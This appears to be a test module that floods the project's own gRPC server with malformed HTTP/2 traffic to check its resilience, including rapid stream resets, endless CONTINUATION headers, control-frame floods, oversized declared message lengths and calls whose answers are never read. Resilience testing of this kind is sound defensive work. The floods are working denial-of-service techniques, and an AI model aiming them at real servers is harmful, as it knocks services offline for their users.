# SPDX-License-Identifier: Apache-2.0
"""Frames of HTTP/2 that no gRPC library would send, by the holder of a certificate."""

import socket
from collections.abc import Callable, Iterator

from tests.hostile.attacks.target import Target, again, attack, message, progress_of

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Returns a frame."""
    return (len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
            + payload)


START = PREFACE + frame(SETTINGS, 0, 0)


def headers(path: str) -> bytes:
    """Returns the compressed headers of a call."""
    return (b"\x83\x86\x04" + bytes([len(path)]) + path.encode()  # POST, http, the path
            + b"\x0f\x10\x10application/grpc" + b"\0\2te\x08trailers")


def call(path: str, stream: int, body: bytes) -> bytes:
    """Returns the frames of a whole unary call."""
    return (frame(HEADERS, END_HEADERS, stream, headers(path))
            + frame(DATA, END_STREAM, stream, b"\0" + len(body).to_bytes(4, "big") + body))


def flood(target: Target, start: bytes, pieces: Callable[[], Iterator[bytes]]) -> None:
    """Sends the pieces over a connection, and never reads; over a new one when it is closed."""
    def attempt() -> None:
        with target.connect() as connection:
            connection.sendall(START + start)
            for piece in pieces():
                if target.left() <= 0:
                    return
                connection.sendall(piece)
                target.count("sent, frames of 16 kB or less", max(1, len(piece) >> 14))
    again(target, attempt)


def resets(first: int, block: bytes, count: int = 500) -> bytes:
    """Returns streams that are opened and reset at once."""
    return b"".join(frame(HEADERS, END_HEADERS, stream, block)
                    + frame(RESET, 0, stream, b"\0\0\0\x08")
                    for stream in range(first, first + 2 * count, 2))


@attack(certificate="viewer")
def rapid_resets(target: Target) -> None:
    """Streams opened and reset at once, as fast as one connection takes the frames."""
    block = headers("/percentdelta.v1.Coordinator/GetProgress")
    flood(target, b"", lambda: (resets(first, block) for first in range(1, 1 << 30, 1000)))


@attack(certificate="viewer")
def endless_headers(target: Target) -> None:
    """Headers that continue in frame after frame and never end."""
    value = 127 + 1 + 126 * 128  # bytes, as the length is written below
    literal = b"\0\x05x-abc\x7f\x81\x7e" + b"v" * value
    pieces = 4 * frame(CONTINUATION, 0, 1, literal[:16384])

    def forever() -> Iterator[bytes]:
        while True:
            yield pieces
    flood(target, frame(HEADERS, 0, 1, b"\x83\x86"), forever)


@attack(certificate="viewer")
def control_frames(target: Target) -> None:
    """Pings, settings, priorities and empty frames, whose answers are never read."""
    pieces = 300 * (frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0)
                    + frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") + frame(WINDOW, 0, 0, b"\0\0\0\1"))

    def forever() -> Iterator[bytes]:
        while True:
            yield pieces
    flood(target, b"", forever)


@attack(certificate="viewer")
def open_streams(target: Target) -> None:
    """Headers of calls that never send their request, on as many streams as there may be."""
    block = headers("/percentdelta.v1.Coordinator/GetProgress")

    def begin() -> None:
        with target.connect() as connection:
            connection.sendall(START + b"".join(
                frame(HEADERS, END_HEADERS, stream, block) for stream in range(1, 20_000, 2)))
            target.count("10,000 streams sent")
            wait_for_close(target, connection)
    again(target, begin, threads=8)


def wait_for_close(target: Target, connection: socket.socket) -> None:
    """Reads a connection until the server closes it, or the time is over."""
    connection.settimeout(1)
    while target.left() > 0:
        try:
            if not connection.recv(1 << 16):
                return
        except TimeoutError:
            pass


@attack(certificate="worker-of-a-stranger")
def declared_lengths(target: Target) -> None:
    """100 pushes, each with a message that declares 2 GiB and brings 64 kB of them."""
    path = "/percentdelta.v1.ParameterServer/Push"
    begun = (frame(HEADERS, END_HEADERS, 1, headers(path))
             + frame(DATA, 0, 1, b"\0\x7f\xff\xff\xff" + bytes(16000)) + 3 * frame(
                 DATA, 0, 1, bytes(16000)))

    def send() -> None:
        connection = target.connect()
        connection.sendall(START + begun)
        target.keep(connection)
        if target.kept() >= 100:
            target.drop()
    again(target, send, 0.01)


def unread_calls(target: Target, path: str, body: bytes, connections: int, calls: int) -> None:
    """Begins that many calls on each of that many connections, and reads no answer."""
    request = START + b"".join(call(path, 1 + 2 * number, body) for number in range(calls))

    def begin() -> None:
        connection = target.connect()
        connection.sendall(request)
        target.keep(connection)
        if target.kept() >= connections:
            target.rest()
    again(target, begin)


@attack(certificate="viewer")
def unread_statistics(target: Target) -> None:
    """1,000 answers with all statistics that are never read."""
    body = message("GetUpdateStatisticsRequest", last=10_000).SerializeToString()
    unread_calls(target, "/percentdelta.v1.Statistics/GetUpdateStatistics", body, 125, 8)


@attack(certificate="viewer")
def unread_watchers(target: Target) -> None:
    """500 watchers of the statistics that never read."""
    body = message("WatchUpdateStatisticsRequest", last=10_000).SerializeToString()
    unread_calls(target, "/percentdelta.v1.Statistics/WatchUpdateStatistics", body, 16, 32)


@attack(certificate="worker-of-a-stranger")
def unread_pulls(target: Target) -> None:
    """300 pulls of a step to come that are never read."""
    progress = progress_of(target)
    body = message("PullRequest", generation=progress.generation,
                   step=progress.step + 3).SerializeToString()
    unread_calls(target, "/percentdelta.v1.ParameterServer/Pull", body, 10, 30)
